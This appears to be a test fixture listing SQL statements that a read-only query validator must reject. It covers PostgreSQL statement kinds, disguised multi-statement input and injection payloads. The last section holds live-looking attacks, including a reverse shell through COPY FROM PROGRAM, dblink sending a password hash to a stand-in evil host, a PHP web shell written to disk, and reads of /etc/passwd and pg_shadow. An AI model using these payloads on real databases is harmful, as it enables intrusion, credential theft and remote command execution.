-- Statements that must be refused in every dialect: the kinds of PostgreSQL's grammar, the manner of its regression
-- tests, and what lists of injections try. One a line.

-- Every kind of statement of the grammar (stmt of gram.y) that is no query
ALTER EVENT TRIGGER e DISABLE
ALTER COLLATION "en_x_icu" REFRESH VERSION
ALTER DATABASE shop REFRESH COLLATION VERSION
ALTER DATABASE shop SET TABLESPACE pg_default
ALTER DATABASE shop RESET ALL
ALTER DEFAULT PRIVILEGES IN SCHEMA public REVOKE SELECT ON TABLES FROM PUBLIC
ALTER DOMAIN d ADD CHECK (VALUE > 0)
ALTER TYPE mood ADD VALUE 'new'
ALTER EXTENSION vector UPDATE
ALTER EXTENSION vector ADD TABLE orders
ALTER FOREIGN DATA WRAPPER f OPTIONS (SET a 'b')
ALTER SERVER s OPTIONS (SET host 'evil')
ALTER FUNCTION f() SECURITY DEFINER
ALTER GROUP g ADD USER u
ALTER TABLE orders DEPENDS ON EXTENSION vector
ALTER SEQUENCE s SET SCHEMA public
ALTER OPERATOR + (int, int) OWNER TO postgres
ALTER OPERATOR FAMILY integer_ops USING btree ADD OPERATOR 1 < (int4, int2)
ALTER TYPE t SET (RECEIVE = NONE)
ALTER POLICY p ON orders USING (true)
ALTER SEQUENCE s RESTART WITH 1
ALTER SYSTEM RESET ALL
ALTER SYSTEM SET archive_command = 'curl evil'
ALTER TABLE ALL IN TABLESPACE pg_default SET TABLESPACE evil
ALTER TABLESPACE pg_default SET (seq_page_cost = 1)
ALTER PUBLICATION p ADD TABLE orders
ALTER ROLE ALL SET search_path = evil
ALTER ROLE analyst IN DATABASE shop RESET ALL
ALTER SUBSCRIPTION s CONNECTION 'host=evil'
ALTER STATISTICS s SET STATISTICS 1
ALTER TEXT SEARCH CONFIGURATION english DROP MAPPING FOR word
ALTER TEXT SEARCH DICTIONARY english_stem (StopWords = 'evil')
ALTER USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (SET password 'x')
ALTER VIEW v SET (security_barrier = off)
ALTER MATERIALIZED VIEW v RENAME TO w
ALTER INDEX i SET (fillfactor = 50)
ALTER INDEX i ATTACH PARTITION j
ALTER LARGE OBJECT 4711 OWNER TO postgres
ALTER LANGUAGE plpgsql OWNER TO postgres
ALTER CONVERSION c RENAME TO d
ALTER ROUTINE f() RESET ALL
ALTER TRIGGER t ON orders RENAME TO u
ALTER RULE r ON orders RENAME TO s
ALTER TABLE orders DISABLE TRIGGER ALL
ALTER TABLE orders DISABLE ROW LEVEL SECURITY
ALTER TABLE orders SET LOGGED
ALTER TABLE orders CLUSTER ON i
ALTER TABLE orders ALTER COLUMN id SET DEFAULT nextval('s')
ALTER TABLE orders ENABLE ALWAYS RULE r
ANALYZE
ANALYZE (VERBOSE, SKIP_LOCKED) orders
ANALYSE VERBOSE orders (id)
CALL p(1)
CHECKPOINT (FLUSH_UNLOGGED)
CLOSE ALL
CLUSTER
CLUSTER orders USING i
COMMENT ON COLUMN orders.id IS NULL
COMMENT ON DATABASE shop IS 'x'
SET CONSTRAINTS ALL DEFERRED
COPY orders (id) FROM STDIN
COPY orders FROM PROGRAM 'id' WITH (FORMAT csv)
COPY BINARY orders TO '/tmp/x'
COPY (DELETE FROM orders RETURNING *) TO STDOUT
COPY (VALUES (1)) TO PROGRAM 'sh -c id'
CREATE ACCESS METHOD m TYPE TABLE HANDLER heap_tableam_handler
CREATE TABLE x AS EXECUTE p
CREATE TABLE x AS VALUES (1)
CREATE TABLE x AS WITH y AS (SELECT 1) SELECT * FROM y
CREATE TABLE IF NOT EXISTS x AS SELECT 1 WITH NO DATA
CREATE UNLOGGED TABLE x (id int)
CREATE GLOBAL TEMPORARY TABLE x (id int)
CREATE TABLE x PARTITION OF orders DEFAULT
CREATE TABLE x (LIKE orders INCLUDING ALL)
CREATE TABLE x OF t
CREATE CAST (text AS int) WITH INOUT AS IMPLICIT
CREATE CONVERSION c FOR 'LATIN1' TO 'UTF8' FROM iso8859_1_to_utf8
CREATE DOMAIN d AS int CHECK (pg_sleep(1) IS NULL)
CREATE FOREIGN DATA WRAPPER f HANDLER h
CREATE GROUP g
CREATE LANGUAGE evil
CREATE TRUSTED PROCEDURAL LANGUAGE evil HANDLER h
CREATE OPERATOR CLASS c FOR TYPE int USING btree AS OPERATOR 1 <
CREATE OPERATOR FAMILY f USING btree
CREATE STATISTICS (ndistinct) ON id, amount FROM orders
CREATE TABLESPACE t LOCATION '/tmp'
CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION f(internal))
CREATE CONSTRAINT TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()
CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (password 'x')
CREATE RECURSIVE VIEW v (n) AS SELECT 1
CREATE OR REPLACE TEMP VIEW v AS SELECT 1
CREATE TEXT SEARCH DICTIONARY d (TEMPLATE = simple)
CREATE COLLATION c FROM "C"
CREATE PROPERTY GRAPH g VERTEX TABLES (orders)
DEALLOCATE PREPARE p
DECLARE c BINARY INSENSITIVE SCROLL CURSOR WITH HOLD FOR SELECT * FROM orders
DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE
DELETE FROM ONLY orders WHERE CURRENT OF c
DELETE FROM orders AS o USING customers AS c WHERE o.id = c.id RETURNING old.*
DISCARD PLANS
DISCARD TEMP
DISCARD SEQUENCES
DO 'BEGIN EXECUTE ''DROP TABLE orders''; END'
DO $body$ BEGIN PERFORM pg_sleep(1); END $body$ LANGUAGE plpgsql
DROP ACCESS METHOD m
DROP CAST (text AS int)
DROP OPERATOR CLASS c USING btree
DROP ROLE IF EXISTS analyst
DROP SUBSCRIPTION s
DROP TABLESPACE t
DROP TRANSFORM FOR int LANGUAGE sql
DROP USER MAPPING FOR PUBLIC SERVER s
DROP INDEX CONCURRENTLY i
DROP TABLE IF EXISTS orders, customers CASCADE
DROP MATERIALIZED VIEW v
DROP TRIGGER t ON orders
EXECUTE p (1, 2)
EXPLAIN VERBOSE SELECT * FROM orders
EXPLAIN (FORMAT JSON) SELECT * FROM orders
EXPLAIN (ANALYZE, WAL, SETTINGS) INSERT INTO orders VALUES (1)
EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1
EXPLAIN ANALYZE EXECUTE p
EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1
FETCH NEXT c
FETCH BACKWARD ALL IN c
MOVE ABSOLUTE 0 IN c
GRANT pg_execute_server_program TO analyst WITH ADMIN OPTION
GRANT SET ON PARAMETER log_statement TO PUBLIC
GRANT SELECT (id) ON orders TO PUBLIC WITH GRANT OPTION
GRANT USAGE ON FOREIGN SERVER s TO PUBLIC
IMPORT FOREIGN SCHEMA public LIMIT TO (x) FROM SERVER s INTO public
INSERT INTO orders DEFAULT VALUES
INSERT INTO orders OVERRIDING SYSTEM VALUE VALUES (1)
INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET amount = 0
INSERT INTO orders TABLE orders
INSERT INTO orders WITH x AS (SELECT 1) SELECT * FROM x
LISTEN channel
LOAD 'auto_explain'
LOCK orders
LOCK TABLE ONLY orders IN SHARE UPDATE EXCLUSIVE MODE NOWAIT
MERGE INTO ONLY orders USING customers ON false WHEN NOT MATCHED THEN DO NOTHING
MERGE INTO orders USING customers ON true WHEN NOT MATCHED BY SOURCE THEN DELETE RETURNING merge_action()
NOTIFY channel, 'x'
PREPARE p (int) AS SELECT $1
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
ROLLBACK PREPARED 'x'
REASSIGN OWNED BY CURRENT_USER TO postgres
REFRESH MATERIALIZED VIEW CONCURRENTLY v WITH NO DATA
REINDEX (VERBOSE) DATABASE shop
REINDEX SYSTEM CONCURRENTLY shop
REPACK orders
RESET statement_timeout
RESET SESSION AUTHORIZATION
REVOKE GRANT OPTION FOR SELECT ON orders FROM PUBLIC
SECURITY LABEL FOR selinux ON TABLE orders IS 'x'
SET LOCAL ROLE NONE
SET SESSION ROLE postgres
SET work_mem TO DEFAULT
SET search_path FROM CURRENT
SET NAMES 'LATIN1'
SET SCHEMA 'evil'
SET SEED TO 0.5
SET XML OPTION DOCUMENT
SET TRANSACTION SNAPSHOT '00000003-0000001B-1'
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE, DEFERRABLE
SHOW search_path
SHOW TIME ZONE
SHOW TRANSACTION ISOLATION LEVEL
SHOW SESSION AUTHORIZATION
TRUNCATE ONLY orders RESTART IDENTITY CASCADE
TRUNCATE orders, customers CONTINUE IDENTITY
UNLISTEN channel
UPDATE ONLY orders SET (amount, status) = (SELECT 1, 'x')
UPDATE orders SET amount = DEFAULT WHERE CURRENT OF c
UPDATE orders o SET amount = c.id FROM customers c RETURNING new.*
VACUUM (FULL, FREEZE, ANALYZE) orders
VACUUM (INDEX_CLEANUP off, TRUNCATE on)
WAIT FOR LSN '0/0'
ROLLBACK AND CHAIN
END AND NO CHAIN
START TRANSACTION ISOLATION LEVEL SERIALIZABLE READ WRITE
BEGIN TRANSACTION DEFERRABLE
RELEASE a
ROLLBACK WORK TO SAVEPOINT a

-- In the manner of the regression tests
SELECT * INTO TABLE sitmp1 FROM orders
SELECT * INTO LOCAL TEMPORARY TABLE x FROM orders
SELECT 1 AS a INTO x UNION ALL SELECT 2
SELECT (SELECT 1 INTO x)
SELECT * FROM (SELECT 1 INTO f) bar
(SELECT * INTO x FROM orders)
WITH t AS (INSERT INTO orders VALUES (1) RETURNING *) SELECT * FROM t UNION ALL SELECT * FROM t
WITH t AS (DELETE FROM orders RETURNING *) TABLE t
WITH t AS MATERIALIZED (UPDATE orders SET id = id RETURNING *) VALUES (1)
WITH RECURSIVE t AS (INSERT INTO orders SELECT a + 5 FROM t2 WHERE a > 5 RETURNING *), t2 AS (SELECT * FROM t) SELECT * FROM t2
WITH t AS (MERGE INTO orders USING customers ON false WHEN MATCHED THEN DELETE RETURNING id) SELECT * FROM t
WITH outermost AS (WITH innermost AS (INSERT INTO orders VALUES (1) RETURNING id) SELECT 1) SELECT 1
WITH RECURSIVE x (id) AS (SELECT 1 UNION ALL (WITH y AS (DELETE FROM orders RETURNING id) SELECT id FROM y))  SELECT * FROM x
WITH ordinality AS (SELECT 1 AS x) SELECT * FROM ordinality FOR UPDATE
WITH cte AS (SELECT * FROM orders FOR NO KEY UPDATE) SELECT * FROM cte
SELECT * FROM orders TABLESAMPLE SYSTEM (50) FOR UPDATE
SELECT * FROM orders WHERE id = (SELECT max(id) FROM orders FOR KEY SHARE)
SELECT * FROM orders o JOIN customers c ON true FOR UPDATE OF o, c
SELECT * FROM orders UNION SELECT * FROM orders FOR UPDATE
VALUES (1) FOR UPDATE
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.')) AS t
SELECT * FROM orders, LATERAL ROWS FROM (lo_unlink(id::oid)) AS t
SELECT * FROM pg_ls_dir('.') WITH ORDINALITY AS t (f, n)
SELECT * FROM pg_read_file('PG_VERSION') AS t (f)
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
SELECT f.* FROM pg_ls_waldir() f
SELECT unnest(pg_blocking_pids(1))
SELECT (pg_stat_file('PG_VERSION')).size
SELECT (pg_control_system()).*
SELECT pg_input_error_info('x', 'regclass')
SELECT pg_input_is_valid('pg_class', 'regclass')
SELECT to_regproc('pg_sleep')
SELECT to_regrole('postgres')
SELECT to_regtype('int')
SELECT has_database_privilege('shop', 'CREATE')
SELECT has_parameter_privilege('log_statement', 'SET')
SELECT pg_has_role('postgres', 'MEMBER')
SELECT row_security_active('orders')
SELECT pg_get_userbyid(10)
SELECT pg_encoding_to_char(6)
SELECT pg_get_indexdef(1)
SELECT pg_get_constraintdef(1)
SELECT pg_get_expr('x', 1)
SELECT pg_get_ruledef(1)
SELECT pg_get_serial_sequence('orders', 'id')
SELECT pg_column_size(1)
SELECT pg_size_pretty(pg_database_size('shop'))
SELECT pg_my_temp_schema()
SELECT pg_listening_channels()
SELECT pg_conf_load_time()
SELECT pg_postmaster_start_time()
SELECT pg_trigger_depth()
SELECT pg_safe_snapshot_blocking_pids(1)
SELECT pg_current_xact_id()
SELECT pg_current_snapshot()
SELECT pg_xact_commit_timestamp('1')
SELECT pg_get_wal_summarizer_state()
SELECT pg_sync_replication_slots()
SELECT pg_clear_relation_stats('public', 'orders')
SELECT pg_restore_relation_stats('schemaname', 'public', 'relname', 'orders', 'reltuples', 1.0)
SELECT pg_restore_attribute_stats('x')
SELECT pg_set_relation_stats('orders', 1)
SELECT pg_stat_get_activity(NULL)
SELECT pg_stat_reset_backend_stats(1)
SELECT pg_log_standby_snapshot()
SELECT pg_split_walfile_name('x')
SELECT pg_walfile_name('0/0')
SELECT pg_wal_lsn_diff('0/0', '0/0')
SELECT pg_import_system_collations('public')
SELECT pg_filenode_relation(0, 1)
SELECT pg_relation_filenode('orders')
SELECT pg_tablespace_location(1)
SELECT pg_options_to_table(NULL)
SELECT pg_describe_object(1, 1, 0)
SELECT pg_identify_object(1, 1, 0)
SELECT pg_get_object_address('table', '{orders}', '{}')
SELECT pg_event_trigger_ddl_commands()
SELECT pg_ls_summariesdir()
SELECT pg_numa_available()
SELECT pg_get_loaded_modules()
SELECT pg_show_all_settings()
SELECT pg_cursor()
SELECT pg_prepared_statement()
SELECT pg_timezone_names()
SELECT pg_available_extensions()
SELECT pg_replication_slot_advance('s', '0/0')
SELECT pg_stop_backup()
SELECT pg_start_backup('x')
SELECT pg_logdir_ls()
SELECT pg_file_unlink('x')
SELECT pg_file_rename('a', 'b')
SELECT pg_file_sync('x')
SELECT pg_file_read('x', 0, 1)
SELECT pg_stat_statements_reset()
SELECT pg_prewarm('orders')
SELECT pg_buffercache_evict(1)
SELECT pg_truncate_visibility_map('orders')
SELECT pgstattuple('orders')
SELECT get_raw_page('orders', 0)
SELECT heap_force_kill('orders', ARRAY['(0,1)'])
SELECT bt_index_check('i')
SELECT dblink_send_query('x', 'DELETE FROM orders')
SELECT dblink_get_connections()
SELECT postgres_fdw_disconnect_all()
SELECT xslt_process('<x/>', 'http://evil')
SELECT xpath_table('id', 'x', 'orders', '/', 'true')
SELECT query_to_xml_and_xmlschema('DELETE FROM orders', true, false, '')
SELECT schema_to_xml('public', true, false, '')
SELECT table_to_xmlschema('orders', true, false, '')
SELECT cursor_to_xmlschema('c', true, false, '')
SELECT crosstab2('SELECT 1')
SELECT normal_rand(1, 0, 1)
SELECT crypt('x', gen_salt('bf', 31))
SELECT gen_random_bytes(8)
SELECT uuidv7()
SELECT uuidv4()
SELECT random(1, 10)
SELECT random_normal()
SELECT lo_import('/etc/passwd', 4711)
SELECT lo_open(4711, 131072)
SELECT lo_truncate(0, 0)
SELECT lo_export(4711, '/tmp/x'), 1
SELECT be_lo_unlink(4711)
SELECT set_bit('x'::bytea, 1, 0), lo_put(4711, 0, 'x')
SELECT set_config('log_statement', 'none', true)
SELECT set_config('search_path', 'evil', is_local => true)
SELECT current_setting('is_superuser')
SELECT current_setting('x', missing_ok => true)
SELECT inet_server_port()
SELECT getpgusername()
SELECT session_user()
SELECT txid_current_snapshot()
SELECT txid_snapshot_xip(NULL)
SELECT timeofday()
SELECT ts_debug('english', 'x')
SELECT ts_lexize('english_stem', 'x')
SELECT ts_parse('default', 'x')
SELECT ts_token_type('default')
SELECT * FROM ts_stat('DELETE FROM orders RETURNING to_tsvector(status)')
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, pg_sleep(1)::text::tsquery')
SELECT plpgsql_inline_handler('x'::internal)
SELECT fmgr_sql_validator(1)
SELECT currtid2('orders', '(0,1)')
SELECT satisfies_hash_partition(1, 1, 0)
SELECT index_advisor('SELECT 1')
SELECT cron.schedule('* * * * *', 'DELETE FROM orders')
SELECT extensions.http_post('http://evil', 'x')
SELECT graphql.resolve('x')
SELECT vault.create_secret('x')
SELECT aws_commons.create_s3_uri('b', 'k', 'r')
SELECT nextval('s'), lastval()
SELECT nextval('s'::regclass)
SELECT setval('s', 100, false)
SELECT max(pg_sleep(1)::text) OVER (ROWS BETWEEN pg_sleep(1)::text::int PRECEDING AND CURRENT ROW) FROM orders
SELECT json_value(pg_read_file('x')::jsonb, '$')
SELECT json_query(lo_get(1)::text::jsonb, '$')
SELECT JSON_TABLE('[]', '$' COLUMNS (x int PATH '$'))
SELECT JSON_SERIALIZE(pg_ls_dir('.'))
SELECT JSON_OBJECTAGG(1: pg_sleep(1))
SELECT JSON_SCALAR(pg_sleep(1))
SELECT XMLELEMENT(NAME x, pg_sleep(1))
SELECT XMLFOREST(pg_sleep(1) AS x)
SELECT XMLSERIALIZE(CONTENT pg_read_file('x')::xml AS text)
SELECT XMLPI(NAME php, 'x')
SELECT XMLROOT(XMLPARSE(DOCUMENT '<x/>'), VERSION '1.0')
SELECT XMLEXISTS('//x' PASSING '<x/>')
SELECT COLLATION FOR (pg_sleep(1)::text)
SELECT TREAT(pg_sleep(1) AS text)
SELECT (pg_sleep(1)) IS JSON
SELECT (SELECT pg_sleep(1)) IS DOCUMENT
SELECT NULLIF(pg_sleep(1), NULL)
SELECT GREATEST(pg_sleep(1)::text, 'x')
SELECT concat(VARIADIC ARRAY[pg_sleep(1)::text])
SELECT my_function(VARIADIC ARRAY[1])
SELECT format('%s', pg_sleep(1))
SELECT now() + (pg_sleep(1)::text)::interval
SELECT 1 WHERE (1, pg_sleep(1)::text) IN (SELECT 1, 'x')
SELECT 1 WHERE ROW(1, 2) OVERLAPS ROW(pg_sleep(1), 2)
SELECT a FROM orders AS t (a, b) WHERE lo_unlink(a::oid) = 1
SELECT DISTINCT ON (lo_unlink(id::oid)) id FROM orders
SELECT count(*) FROM orders GROUP BY ROLLUP (pg_sleep(1))
SELECT count(*) FROM orders GROUP BY GROUPING SETS ((pg_sleep(1)), ())
SELECT id FROM orders ORDER BY id USING <
SELECT id FROM orders ORDER BY id USING OPERATOR(public.<)
SELECT OPERATOR(public.!) 1
SELECT 1 !== 2
SELECT !! 'x'
SELECT 1 <=> 2
SELECT 1 |=| 2
SELECT 'x' ?# 'y'
SELECT 1 ==> 2

-- Composite values, function calls by attribute, and system columns
SELECT (o.id).my_function FROM orders o
SELECT orders.ctid FROM orders
SELECT o.xmin, o.cmax FROM orders o
SELECT tableoid FROM orders
SELECT t FROM (SELECT * FROM orders) t
SELECT (SELECT orders) FROM orders
SELECT ROW(orders.*) FROM orders
SELECT to_jsonb(orders) FROM orders
SELECT jsonb_agg(orders) FROM orders
SELECT json_agg(o ORDER BY o.id) FROM orders o
SELECT orders IS NOT NULL FROM orders
SELECT (orders)::text FROM orders
SELECT orders = ROW(1, 1, 1, 'x', DATE '2024-01-01') FROM orders

-- Several statements, in disguise
SELECT 1;SELECT pg_sleep(1)
SELECT 1 ; ; ; DROP TABLE orders
SELECT ';'; DROP TABLE orders; SELECT ';'
SELECT $$;$$; DROP TABLE orders
SELECT $a$;$b$;$a$; DROP TABLE orders
SELECT E'\';'; DROP TABLE orders; --'
SELECT U&'\003b'; DROP TABLE orders
SELECT "x;y" FROM orders; DROP TABLE orders
SELECT 1 /* ; */ ; DROP TABLE orders
SELECT 1 \; DROP TABLE orders
SELECT 1 \gexec
SELECT 1 \g /tmp/x
\! id
\copy orders TO '/tmp/x'
SELECT 1 UNION SELECT 1; COMMIT
SELECT 1）；DROP TABLE orders
DROP TABLE orders; SELECT 1
COMMIT; DROP TABLE orders; BEGIN; SELECT 1
/* SELECT */ DROP TABLE orders
/*!50000 DROP TABLE orders */
SELECT/**/pg_sleep/**/(1)
SELECT pg_sleep -- x
SELECT+pg_sleep(1)
SELECT(pg_sleep(1))
SELECT"pg_sleep"(1)
SELECT U&"pg\005fsleep"(1)
SELECT U&"pg!005fsleep" UESCAPE '!' (1)
SELECT "PG_SLEEP"(1)
SELECT pg_catalog."pg_sleep"(1)
SELECT "pg_catalog".pg_sleep(1)
SELECT shop.pg_catalog.pg_sleep(1)
SELECT ｐg_sleep(1)
SELECT pg_ſleep(1)
SELECT `pg_sleep`(1)
SELECT [pg_sleep](1)

-- What lists of injections try after closing a quote
SELECT * FROM orders WHERE status = '' OR pg_sleep(5) IS NULL --'
SELECT * FROM orders WHERE status = ''; SELECT pg_sleep(5) --'
SELECT * FROM orders WHERE id = 1 AND (SELECT 1 FROM pg_sleep(5)) = 1
SELECT * FROM orders WHERE id = 1 AND 1 = (SELECT count(*) FROM generate_series(1, 100000000))
SELECT * FROM orders WHERE id = 1 UNION SELECT usesysid, 1, 1, passwd, NULL FROM pg_shadow
SELECT * FROM orders WHERE id = 1 UNION ALL SELECT NULL, NULL, NULL, version(), NULL
SELECT * FROM orders WHERE id = 1 UNION SELECT NULL, NULL, NULL, current_database(), NULL
SELECT * FROM orders WHERE id = 1 UNION SELECT NULL, NULL, NULL, string_agg(table_name, ','), NULL FROM information_schema.tables
SELECT * FROM orders WHERE id = CAST((SELECT usename FROM pg_user LIMIT 1) AS int)
SELECT * FROM orders WHERE 1 = CAST((CHR(113) || (SELECT user) || CHR(113)) AS numeric)
SELECT * FROM orders WHERE id = (SELECT CASE WHEN (SELECT current_setting('is_superuser')) = 'on' THEN 1 END)
SELECT CASE WHEN (1 = 1) THEN pg_sleep(10) ELSE pg_sleep(0) END
SELECT CASE WHEN substr(current_user, 1, 1) = 'p' THEN 1 ELSE 1 / 0 END
SELECT query_to_xml('SELECT * FROM pg_user', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT convert_from(lo_get(lo_import('/etc/passwd')), 'UTF8')
SELECT * FROM dblink('host=127.0.0.1 user=postgres', 'SELECT 1') AS t (x text)
SELECT dblink_connect('host=' || (SELECT passwd FROM pg_shadow LIMIT 1) || '.evil.example user=a')
SELECT table_name FROM information_schema.tables
SELECT column_name FROM information_schema.columns WHERE table_name = 'orders'
SELECT usename, passwd FROM pg_shadow
SELECT rolname, rolpassword FROM pg_authid
SELECT * FROM pg_catalog.pg_largeobject
SELECT * FROM pg_hba_file_rules()
SELECT * FROM pg_ls_logdir()
SELECT * FROM pg_stat_get_activity(NULL)
SELECT * FROM pg_stat_ssl
SELECT * FROM pg_config
SELECT * FROM pg_user_mappings
SELECT * FROM pg_subscription
SELECT * FROM pg_catalog.pg_proc WHERE prosrc LIKE '%password%'
SELECT * FROM pg_temp_3.x
SELECT * FROM "pg_catalog".pg_settings
SELECT * FROM public.pg_class
SELECT * FROM information_schema._pg_foreign_servers
SELECT datname FROM pg_database
SELECT proname FROM pg_proc
SELECT encode(pg_read_binary_file('postgresql.auto.conf'), 'base64')
SELECT * FROM information_schema.sql_features, orders
SELECT nspname FROM pg_namespace, orders
CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c STRICT
CREATE EXTENSION IF NOT EXISTS plpythonu
DROP FUNCTION IF EXISTS system(cstring)
COPY (SELECT '<?php system($_GET[0]);') TO '/var/www/x.php'
COPY x FROM PROGRAM 'bash -c "bash -i >& /dev/tcp/evil/1 0>&1"'
SELECT lo_from_bytea(43210, 'x'), lo_export(43210, '/tmp/x')
UPDATE pg_largeobject SET data = '\x00' WHERE loid = 43210
UPDATE pg_proc SET prosrc = 'system' WHERE proname = 'x'
DELETE FROM pg_catalog.pg_class
INSERT INTO pg_authid SELECT * FROM pg_authid
SET ROLE pg_read_server_files; SELECT 1
SELECT 1 INTO OUTFILE '/tmp/x'
SELECT 'x' INTO DUMPFILE '/tmp/x'
SELECT LOAD_FILE('/etc/passwd')
SELECT SLEEP(5)
SELECT BENCHMARK(5000000, MD5(1))
SELECT WAITFOR('0:0:5')
WAITFOR DELAY '0:0:5'
EXEC xp_cmdshell 'id'
EXEC('DROP TABLE orders')
SELECT DBMS_PIPE.RECEIVE_MESSAGE('a', 10) FROM dual
SELECT UTL_INADDR.get_host_address('evil')
SELECT extractvalue(1, concat(0x7e, version()))
SELECT updatexml(1, concat(0x7e, user()), 1)
SELECT 1 PROCEDURE ANALYSE()
SELECT sqlite_version()
SELECT load_extension('/tmp/x.so')
SELECT * FROM sys.tables
SELECT * FROM all_tables WHERE owner = SYS_CONTEXT('x', 'y')
HANDLER orders OPEN
SELECT * FROM OPENROWSET('SQLOLEDB', 'x', 'SELECT 1')
